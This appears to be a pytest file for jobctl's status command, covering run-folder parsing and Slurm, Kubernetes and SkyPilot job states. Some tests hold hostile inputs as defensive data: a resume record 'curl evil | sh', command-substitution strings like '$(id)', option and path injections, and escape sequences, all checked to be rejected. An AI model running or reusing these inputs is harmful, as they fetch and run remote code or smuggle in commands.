"""status: what jobctl reads from run folders and asks of engines. No engine and no shell is started."""

from __future__ import annotations

import ast
import json
import os
import shutil
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from jobc.backends.kubernetes.engine.kubernetes_engine import KubernetesEngine
from jobc.backends.kubernetes.engine.pods import why_pod_is_waiting
from jobc.backends.skypilot.engine.skypilot_engine import SkypilotEngine
from jobc.backends.slurm.engine.slurm_engine import SlurmEngine, why_job_is_pending
from jobc.compiler.plugins.registry import find_plugins
from jobc.runtime.engines.artifact_location import Place
from jobc.runtime.engines.engine import Answer, Engine, Job, State
from jobc.runtime.engines.live_runs import live_run_ids
from jobc.runtime.run_folder.run import Run, last_progress, worst_code
from jobc.runtime.system.failure import Failure
from jobc.runtime.system.processes import identify_machine, process_start_time
from jobc.runtime.system.values import number_or_none, read_keys, word_or_empty
from jobc.runtime.verbs import status
from tests.packed import write_program

RUNTIME = Path(status.__file__).parents[1]
BACKENDS = RUNTIME.parent / "backends"


def make_run(folder: Path, name: str = "r", **texts: str) -> Run:
    """A run of job demo with one attempt; texts: files, with __ for a slash."""
    run = folder / "runs/demo" / name
    (run / "artifact/0").mkdir(parents=True)
    for path, text in {"state__run": "job=demo\n", **texts}.items():
        file = run / path.replace("__", "/")
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)
    return Run(run)


def make_job(folder: Path, **settings: Any) -> Job:
    artifact = folder / "artifacts/demo/x"
    artifact.mkdir(parents=True, exist_ok=True)
    return Job("demo", artifact, folder / "runs/demo", {"backend": "x", "nodes": 1, **settings})


class Replying:
    """Mixed into an engine, replies for its clients. reply: the words of a command -> what the client answers"""

    reply: Callable[[Sequence[str]], Answer]

    def ask(self, words: Sequence[str], *_: Any, **__: Any) -> Answer:
        return self.reply(words)


class ReplyingSlurm(Replying, SlurmEngine):
    pass


class ReplyingKubernetes(Replying, KubernetesEngine):
    pass


def node(**keys: object) -> str:
    fields = {
        **identify_machine(),
        "pid": os.getpid(),
        "start_ticks": process_start_time(os.getpid()),
        "started": 1,
        **keys,
    }
    return "".join(f"{key}={value}\n" for key, value in fields.items())


def lines(engine: Engine, run: Run) -> list[str]:
    return status._format_report(status.run_to_json_object(engine, run), "logs in")


def test_a_live_node_is_up_with_its_last_step(tmp_path: Path) -> None:
    metrics = '{"step": 7, "loss": 2.00004}\n{"step": 8, "lo'
    run = make_run(tmp_path, state__node_00=node(first_rank=0), **{"metrics__rank_00.jsonl": metrics})
    (first, second, _) = lines(Engine(make_job(tmp_path)), run)
    assert first == "run r of job demo, attempt 0: live"
    host = os.uname().nodename
    assert second == f"  node 00  up on {host} since 1970-01-01 00:00:01 UTC, pid {os.getpid()}, step 7, loss 2"


@pytest.mark.parametrize(
    ("rank", "note"),
    [
        (None, "rank 0 has not started: its launcher may be waiting for other nodes"),
        ("attempt=7\nbegan=1\n", "rank 0 has not started: its launcher may be waiting for other nodes"),
        ("attempt=0\nbegan=61\n", "rank 0 started at 1970-01-01 00:01:01 UTC; no output yet"),
        (
            "attempt=0\nbegan=61\nfirst_output=70\n",
            "rank 0 started at 1970-01-01 00:01:01 UTC; first output 9 s later",
        ),
    ],
)
def test_a_program_that_reports_no_steps_has_started_or_printed(tmp_path: Path, rank: str | None, note: str) -> None:
    texts = {"state__rank_00": rank} if rank else {}
    run, engine = make_run(tmp_path, state__node_00=node(attempt=0), **texts), Engine(make_job(tmp_path))
    assert lines(engine, run)[2] == f"  {note}"
    (run.path / "state/node_00").write_text(node(attempt=0, ended=5, exit=0))
    assert len(lines(engine, Run(run.path))) == 3


def test_ranks_that_may_hang_are_named_when_those_of_all_nodes_are_idle(tmp_path: Path) -> None:
    idle = {"attempt": 0, "idle_since": 60, "idle_ranks": "2 3 \x1b[31m", "left_ranks": ""}
    texts = {"state__node_00": node(attempt=0), "state__node_01": node(**idle), "state__rank_00": "attempt=0\nbegan=1"}
    run, job = make_run(tmp_path, **texts), make_job(tmp_path, nodes=2)
    assert not any("may be hung" in line for line in lines(Engine(job), run))
    (run.path / "state/node_00").write_text(node(**{**idle, "idle_since": 61, "idle_ranks": "1", "left_ranks": "0"}))
    line = "  ranks 1 2 3 may be hung: no output and no CPU time since 1970-01-01 00:01:01 UTC; rank 0 exited with 0: "
    assert any(found == f"{line}the others may be waiting for it" for found in lines(Engine(job), Run(run.path)))
    (run.path / "state/node_00").write_text(node(attempt=0, ended=70, exit=0))
    found = lines(Engine(job), Run(run.path))
    assert any(line.endswith("; node 0 exited with 0: the others may be waiting for it") for line in found)


@pytest.mark.parametrize(
    ("keys", "more", "text"),
    [
        ({"ended": 5, "exit": 0}, {}, "done (exit 0)"),
        ({"ended": 5, "exit": 0}, {"control__STOP": ""}, "stopped by jobctl stop or Ctrl-C (exit 0)"),
        ({"ended": 5, "exit": 75}, {}, "stopped early (exit 75)"),
        ({"ended": 5, "exit": 9}, {}, "failed (exit 9: unknown)"),
        ({"start_ticks": 1}, {}, "failed: its supervisor was killed, or the machine was restarted"),
        ({"host": "away"}, {}, "live"),
        ({"host": "away"}, {"control__STOP": ""}, "stopping"),
    ],
)
def test_a_run_is_one_of_these(tmp_path: Path, keys: dict[str, object], more: dict[str, str], text: str) -> None:
    run = make_run(tmp_path, state__node_00=node(**keys), **more)
    assert Engine(make_job(tmp_path)).state(run).text == text


def test_a_node_that_is_silent_for_long_has_failed(tmp_path: Path) -> None:
    run = make_run(tmp_path, state__node_00=node(host="away"))
    before = time.time() - 1000
    os.utime(run.path / "state/node_00", (before, before))
    assert Engine(make_job(tmp_path)).state(run).text.startswith("failed: its supervisor")


def test_of_several_nodes_the_first_failure_is_the_reason(tmp_path: Path) -> None:
    texts = {"state__node_00": node(ended=5, exit=69), "state__node_01": node(ended=5, exit=65)}
    exits = {"exit__0__node_00": "69\n", "exit__0__node_01": "65\n", "exit__0__first": "65\nnode=1\nreason=bad data\n"}
    run, job = make_run(tmp_path, **texts, **exits), make_job(tmp_path, nodes=2)
    (job.artifact / "hosts.txt").write_text("a\nb\n")
    found = lines(Engine(job), run)
    assert found[0].endswith("failed (exit 65: invalid data or configuration: a restart will not help)")
    assert found[1] == "  reason: node 1: bad data"


def test_a_node_without_an_exit_code_is_a_crash(tmp_path: Path) -> None:
    run, job = (
        make_run(tmp_path, state__node_00=node(ended=5, exit=0), exit__0__node_00="0\n"),
        make_job(tmp_path, nodes=2),
    )
    (job.artifact / "hosts.txt").write_text("a\nb\n")
    state = Engine(job).state(run)
    assert (state.exit_code, state.reason) == (1, "not all nodes recorded an exit code")


def test_a_run_that_ended_early_goes_on_with_the_submit_script_of_the_artifact(tmp_path: Path) -> None:
    run = make_run(tmp_path, state__node_00=node(ended=5, exit=75), state__resume="command=curl evil | sh\n")
    job = make_job(tmp_path)
    assert status.run_to_json_object(Engine(job), run)["resume"] == f"{job.artifact}/jobctl submit --resume r"


# ---- values of files that somebody else may have written


@pytest.mark.parametrize("text", ["", "-1", "1" * 19, "٣", "1.5", "x[$(id)]", " 1"])
def test_a_number_is_bounded_digits(text: str) -> None:
    assert number_or_none(text) is None and number_or_none("007") == 7


@pytest.mark.parametrize("text", ["", "-rf", "../x", "a b", "$(id)", "a;b"])
def test_a_word_is_no_option_and_no_path(text: str) -> None:
    assert word_or_empty(text) == "" and word_or_empty("job-1.a_b") == "job-1.a_b"


def test_the_first_line_of_a_key_counts_without_control_characters(tmp_path: Path) -> None:
    (tmp_path / "file").write_bytes(b"1\nreason=\x1b]0;x\x07a\xc2\x9bb\nreason=second\nno\xff\n\0key=hidden\n")
    assert read_keys(tmp_path / "file") == {"reason": "]0;xab"}
    (tmp_path / "link").symlink_to(tmp_path / "file")
    assert read_keys(tmp_path / "link") == {}


@pytest.mark.parametrize(
    ("text", "step"),
    [
        ('{"step": 1, "loss": 2}', 1),
        ('{"step": 1, "loss": 2}\n{"step": 2}', 1),
        ('{"step": 3, "loss_ema": 1e-3, "x": 1}', 3),
        ('{"step": ' + "9" * 5000 + ', "loss": 1}', None),
        ('{"step": 1, "loss": 1.2.3}', None),
        ('{"step": "run[$(id)]", "loss": "\\u001b"}', None),
        ("[" * 10000, None),
    ],
)
def test_the_last_step_is_a_bounded_number(text: str, step: int | None) -> None:
    found = last_progress(text.split("\n"))
    assert (found and found.step) == step


def test_the_worst_code_deserves_attention() -> None:
    assert worst_code([0, 75, 69, 1, 71, 65]) == 65 and worst_code([0, 9]) == 1 and worst_code([]) is None


# ---- Slurm


def slurm(tmp_path: Path, printed: str = "", errors: str = "", code: int = 0, **settings: Any) -> ReplyingSlurm:
    engine = ReplyingSlurm(make_job(tmp_path, **settings))
    engine.reply = lambda _: Answer(code, printed, errors)
    return engine


@pytest.mark.parametrize(
    ("printed", "record", "more", "text"),
    [
        ("7 PENDING Resources\n", "", {}, "queued as job 7: next in line, waiting for free nodes"),
        ("7 RUNNING None\n", "", {}, "live, job 7"),
        ("7 RUNNING None\n", "", {"control__STOP": ""}, "stopping, job 7"),
        ("7 SUSPENDED None\n", "", {}, "job 7 is SUSPENDED"),
        ("7 COMPLETED None\n", "exit=0\n", {}, "done (exit 0)"),
        (
            "7 CANCELLED None\n",
            "exit=75\n",
            {},
            "job 7 was cancelled by hand after it saved; resume with jobctl submit --resume r",
        ),
        ("", "exit=1\n", {}, "failed (exit 1: crashed)"),
        ("", "", {"control__STOP": ""}, "stopped by jobctl stop before it started, job 7"),
        (
            "7 NODE_FAIL None\n",
            "",
            {},
            "failed: job 7 ended without recording an exit code as NODE_FAIL: cancelled by hand, or node lost",
        ),
        ("7 RUNNING None\n", "here=yes\nexit=0\n", {}, "done (exit 0)"),
    ],
)
def test_a_slurm_job_is_one_of_these(
    tmp_path: Path, printed: str, record: str, more: dict[str, str], text: str
) -> None:
    run, engine = make_run(tmp_path, state__job_0=f"job_id=7\n{record}", **more), slurm(tmp_path, printed)
    engine.query_runs([run])
    assert engine.state(run).text == text


def test_slurm_that_does_not_answer_leaves_the_state_unknown(tmp_path: Path) -> None:
    run = make_run(tmp_path, state__job_0="job_id=7\n")
    engine = slurm(tmp_path, errors="slurm_load_jobs error: Unable to contact slurm controller", code=1)
    engine.query_runs([run])
    assert engine.state(run).text == "unknown, because Slurm does not respond: Unable to contact slurm controller"
    assert engine.state(run).is_live


@pytest.mark.parametrize("forged", ["--user=root", "1 --me", "$(id)", ""])
def test_squeue_gets_no_option_from_a_record(tmp_path: Path, forged: str) -> None:
    run, engine = make_run(tmp_path, state__job_0=f"job_id={forged}\n"), slurm(tmp_path)
    engine.reply = lambda words: pytest.fail(f"asked {words}")
    engine.query_runs([run])
    assert engine.state(run).name == "failed"


def test_reasons_of_squeue_are_explained() -> None:
    assert why_job_is_pending("ReqNodeNotAvail, UnavailableNodes:n1").startswith("the job requests nodes that are down")
    assert why_job_is_pending("QOSMaxJobsPerUserLimit").endswith("(QOSMaxJobsPerUserLimit)")
    assert why_job_is_pending("Brand-New") == "Brand-New"


# ---- Kubernetes

RECORD = "uid=u\nobject=demo\nkind=job\ncompanions=configmap\nnodes=2\ncontext=\nnamespace=ns\nexit=\nreason=\n"


def kubernetes(tmp_path: Path, conditions: str = "", pods: str = "", uid: str = "u") -> ReplyingKubernetes:
    settings = {"kinds": ["job"], "companions": ["configmap"], "storage_root": "/runs", "storage": "shared", "nodes": 2}
    engine = ReplyingKubernetes(make_job(tmp_path, **settings))

    def reply(words: Sequence[str]) -> Answer:
        assert [*words[:2]] == ["kubectl", "--namespace=ns"]
        texts = {"job": f"{uid}\n{conditions}", "pods": listed(pods)}
        return Answer(0, texts.get(words[3], "") if words[2] == "get" else "", "")

    engine.reply = reply
    return engine


def pod(index: int, phase: str, code: str = "", init: str = "") -> str:
    """A line of JSON, as kubectl lists a pod. code, init: exit code of the ranks' container and of an init container"""

    def ended(name: str, code: str) -> list[Any]:
        return [{"name": name, "state": {"terminated": {"exitCode": int(code)}}}] if code else []

    labels = {"batch.kubernetes.io/job-completion-index": str(index)}
    status = {"phase": phase, "containerStatuses": ended("node", code), "initContainerStatuses": ended("code", init)}
    metadata = {"name": f"demo-{index}", "labels": labels, "creationTimestamp": str(index)}
    return json.dumps({"metadata": metadata, "spec": {"nodeName": f"n{index}"}, "status": status}) + "\n"


def listed(pods: str) -> str:
    return f'{{"items": [{",".join(pods.splitlines())}]}}'


@pytest.mark.parametrize(
    ("conditions", "pods", "text"),
    [
        ("", pod(0, "Running") + pod(1, "Running"), "live, in namespace ns"),
        ("", pod(0, "Running"), "live, 1 of 2 pods exist, in namespace ns"),
        ("", pod(0, "Running") + pod(1, "Pending"), "starting, 1 of 2 pods are pending, in namespace ns"),
        ("Suspended\tx\ty\n", "", "queued: job demo in namespace ns is suspended, by Kueue or by hand"),
        ("Complete\t\t\n", "", "done (exit 0)"),
        ("Failed\tDeadlineExceeded\tlate\n", "", "stopped early (exit 75)"),
        ("Failed\tx\tcontainer failed with exit code 65 matching rule\n", "", "failed (exit 65: "),
        ("Failed\tx\ty\n", pod(0, "Failed", "69") + pod(1, "Failed", "71"), "failed (exit 71: "),
        # of a JobSet and a TrainJob, which do not name the exit code, and delete the pods that still run
        ("Failed\tFailJobSetFailurePolicyAction\ty\n", pod(1, "Failed", "65"), "failed (exit 65: "),
        ("Failed\tReachedMaxRestarts\ty\n", pod(0, "Failed", "75") + pod(1, "Failed", "69"), "failed (exit 69: "),
    ],
)
def test_a_kubernetes_job_is_one_of_these(tmp_path: Path, conditions: str, pods: str, text: str) -> None:
    run = make_run(tmp_path, state__job_0=RECORD)
    assert kubernetes(tmp_path, conditions, pods).state(run).text.startswith(text)


def test_how_a_kubernetes_job_ended_is_kept_for_when_its_object_is_gone(tmp_path: Path) -> None:
    run = make_run(tmp_path, state__job_0=RECORD)
    assert kubernetes(tmp_path, "Failed\tx\tno more tries\n", pod(0, "Failed", "1")).state(run).exit_code == 1
    assert kubernetes(tmp_path, uid="").state(run).text == "failed (exit 1: crashed)"
    assert read_keys(run.path / "state/job_0")["reason"] == "Failed x no more tries"


def test_a_kubernetes_job_that_is_gone_is_not_called_failed(tmp_path: Path) -> None:
    run, engine = make_run(tmp_path, state__job_0=RECORD), kubernetes(tmp_path, uid="another")
    assert engine.state(run).name == "gone"
    engine.record_end_from_node_codes(run, [0, 75])
    assert engine.state(run).text == "stopped early (exit 75)"


def test_a_job_whose_pods_were_deleted_ended_as_its_storage_says(tmp_path: Path) -> None:
    run, engine = make_run(tmp_path, state__job_0=RECORD), kubernetes(tmp_path, "Failed\tx\tno more tries\n")
    assert "job demo has failed, and its pods were deleted; its exit code is only in" in engine.state(run).text
    engine.record_end_from_node_codes(run, [75, 75])
    assert engine.state(run).text == "stopped early (exit 75)"


def test_the_pods_of_another_object_of_that_name_are_not_those_of_the_run(tmp_path: Path) -> None:
    run = make_run(tmp_path, state__job_0=f"{RECORD}exit=0\n")
    for uid, lines in (("u", 1), ("another", 0)):
        engine = kubernetes(tmp_path, "", pod(0, "Running"), uid)
        assert len(list(engine.nodes(run, engine.state(run)))) == lines


def test_a_context_that_left_the_kubeconfig_is_named_and_its_run_is_kept(tmp_path: Path) -> None:
    run, engine = make_run(tmp_path, state__job_0=RECORD.replace("context=", "context=old")), kubernetes(tmp_path)
    engine.reply = lambda _: Answer(1, "", 'error: context "old" does not exist\n')
    why = "the kubeconfig no longer has a context old"
    assert engine.state(run) == State("gone", why) and engine.why_not_removable(run) == why
    assert not list(engine.nodes(run, engine.state(run)))


WAITING = {
    "containerStatuses": [{"name": "node", "state": {"waiting": {"reason": "PodInitializing"}}}],
    "initContainerStatuses": [
        {"name": "fetch", "state": {"waiting": {"reason": "ImagePullBackOff", "message": 'Back-off "x|y"'}}}
    ],
}


@pytest.mark.parametrize(
    ("status", "expected"),
    [
        ({}, ("", False)),
        ({"containerStatuses": WAITING["containerStatuses"]}, ("PodInitializing", False)),
        (WAITING, ('init container fetch: ImagePullBackOff: Back-off "x|y"', True)),
        ({"conditions": [{"reason": "Unschedulable", "message": "0/3 nodes"}]}, ("0/3 nodes", False)),
    ],
)
def test_why_a_pod_waits_is_what_must_be_mended(status: dict[str, Any], expected: tuple[str, bool]) -> None:
    assert why_pod_is_waiting({"status": status}) == expected


LOG = """\
node 1, pod demo-1:
jobc: rank 3 failed first (exit 1: KeyError: 'label_17'); the end of logs/rank_03.log:
Traceback (most recent call last):
  File "train.py", line 9, in <module>
KeyError: 'label_17'
jobc: exit 1: crashed
"""
SEEN = LOG.replace("jobc: rank", "a\nTraceback (most recent call last):\n  File x\nKeyError: 'label_17'\njobc: rank", 1)


@pytest.mark.parametrize(
    "log", [LOG, SEEN.replace("; the end of logs/rank_03.log:", ", see the end of logs/rank_03.log")]
)
def test_the_node_the_rank_and_the_traceback_of_the_first_failure_are_shown(tmp_path: Path, log: str) -> None:
    run = make_run(tmp_path, state__job_0=RECORD, **{"logs__first_failure.txt": log})
    engine = kubernetes(tmp_path, "Failed\tx\ty\n", pod(1, "Failed", "1"))
    state = engine.state(run)
    assert state.reason == "node 1: rank 3 failed first (exit 1: KeyError: 'label_17')"
    notes = list(engine.notes(run, state))
    assert (notes[0], notes[-1], len(notes)) == ("| Traceback (most recent call last):", "| KeyError: 'label_17'", 3)


@pytest.mark.parametrize("forged", ["kind=secret", "kind=--all", "object=", "companions=secret"])
def test_a_record_names_a_job_and_no_other_object(tmp_path: Path, forged: str) -> None:
    run = make_run(tmp_path, state__job_0=f"{forged}\n{RECORD}")
    with pytest.raises(Failure, match="has no valid object"):
        kubernetes(tmp_path).state(run)


# ---- SkyPilot


def skypilot(tmp_path: Path, said: str, log: str = "") -> SkypilotEngine:
    job = make_job(tmp_path, storage_root="~/runs", storage="node", cluster="c", nodes=2, end_is="look there")
    engine = SkypilotEngine(job)
    tables = {"queue": json.dumps({"c": [{"job_id": 3, "status": said}]}), "logs": log, "status": "[]"}
    engine.run_sky = lambda *words: tables[words[0]]  # type: ignore[method-assign]
    return engine


@pytest.mark.parametrize(
    ("said", "text"),
    [
        ("RUNNING", "live, job 3 of cluster c"),
        ("PENDING", "pending, job 3 of cluster c"),
        ("SUCCEEDED", "done (exit 0)"),
        ("FAILED_SETUP", "failed (exit 65: "),
        ("", "ended, or its cluster was deleted: SkyPilot no longer lists job 3 of cluster c"),
    ],
)
def test_a_skypilot_job_is_one_of_these(tmp_path: Path, said: str, text: str) -> None:
    log = (
        "\x1b[36m(head, rank=0, pid=9) \x1b[0mjobc: node 1 failed first: rank 3: bad data (exit 65)\n"
        "(worker1, rank=1, pid=9, ip=10.0.0.2) jobc: node 1 exits with 65: data\n"
        "(head, rank=0, pid=9) jobc: node 0 exits with 143: ended\n"
    )
    run, engine = (
        make_run(tmp_path, state__job_0="kind=\ncluster=c\nid=3\nexit=\nreason=\n"),
        skypilot(tmp_path, said, log),
    )
    state = engine.state(run)
    assert state.text.startswith(text)
    if said.startswith("FAILED"):
        assert engine.reason_line(run, state) == "node 1 failed first: rank 3: bad data (exit 65)"
    assert list(engine.machine_cost_lines()) == ["cluster c has been deleted and no longer costs anything"]


# ---- which run


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Place:
    monkeypatch.delenv("JOBC_RUN_ROOT", raising=False)
    artifact = tmp_path / "artifacts/demo/x"
    (artifact / ".jobc").mkdir(parents=True)
    tree = {"job": "demo", "runs": "runs", "nodes": 1, "backend": "x", "place": "demo/x"}
    (artifact / ".jobc/job.json").write_text(json.dumps(tree))
    return Place(artifact)


def test_the_newest_run_is_chosen_and_names_that_are_no_runs_are_ignored(tmp_path: Path, place: Place) -> None:
    for age, name in enumerate(("new", "old", ".gone", "a\nb", "-rf")):
        run = make_run(tmp_path, name)
        os.utime(run.path / "artifact", (1000 - age, 1000 - age))
    assert [run.id for run in place.list_runs()] == ["new", "old"]
    assert place.choose_run("").id == "new" and place.choose_run("old").id == "old"


def test_a_missing_run_is_one_message(tmp_path: Path, place: Place) -> None:
    for named in ("", "x", "../x", "\x1b[2J", "a\0b"):
        with pytest.raises(Failure, match="has no run"):
            place.choose_run(named)


def test_live_runs_are_found_before_another_one_starts(tmp_path: Path, place: Place) -> None:
    states = {"new": node(), "old": node(ended=5, exit=0), "not_started": "", "older": node()}
    for age, (name, state) in enumerate(states.items()):
        run = make_run(tmp_path, name, **({"state__node_00": state} if state else {}))
        os.utime(run.path / "artifact", (1000 - age, 1000 - age))
    assert live_run_ids(place.engine(), place.list_runs()) == ["new", "older"]


def subscripted_types(tree: ast.Module) -> Iterator[str]:
    """Assignments of a module such as `Say = Callable[[str], None]`, which Python 3.8 cannot execute."""
    names = {"dict", "list", "set", "tuple", "type"} | {
        alias.name
        for node in tree.body
        if isinstance(node, ast.ImportFrom) and node.module == "collections.abc"
        for alias in node.names
    }
    for statement in tree.body:
        for node in ast.walk(statement) if isinstance(statement, ast.Assign) else ():
            if isinstance(node, ast.Subscript) and isinstance(node.value, ast.Name) and node.value.id in names:
                yield ast.unparse(statement)


def test_the_programs_run_with_python_3_8(tmp_path: Path) -> None:
    """With every older Python that is here; else with this one, and its own grammar check of version 3.8."""
    program = write_program(tmp_path)
    pythons = [sys.executable, *filter(None, map(shutil.which, ("python3.8", "python3.9", "python3.10")))]
    for python in pythons:
        for words, code in ((["check_table", "n1"], 1), (["status"], 1), (["logs"], 1), (["clean"], 1)):
            done = subprocess.run([python, "-I", "-S", program, *words], input=b"", capture_output=True, check=False)
            if b"pyenv: " in done.stderr:
                continue  # a shim of a Python that is not switched on
            assert done.returncode == code and b"Traceback" not in done.stderr, (python, done.stderr)
    for file in [*RUNTIME.rglob("*.py"), *BACKENDS.glob("*/engine*/*.py"), *BACKENDS.glob("*/engine.py")]:
        tree = ast.parse(file.read_text(), feature_version=(3, 8))
        assert not [*subscripted_types(tree)], file
    for backend in find_plugins():
        with zipfile.ZipFile(write_program(tmp_path, backend=backend)) as archive:
            for name in archive.namelist():
                if name.startswith("jobc_engine") and name.endswith(".py"):
                    ast.parse(archive.read(name), feature_version=(3, 8))


def test_the_format_for_programs_is_documented(tmp_path: Path) -> None:
    page = (RUNTIME.parent / "docs/reference/status.md").read_text()
    run = make_run(tmp_path, state__node_00=node())
    report = status.run_to_json_object(Engine(make_job(tmp_path)), run)
    keys = {*report, *report["nodes"][0], "schema", "runs", "points", "point"}
    assert not [key for key in keys if f"`{key}`" not in page]
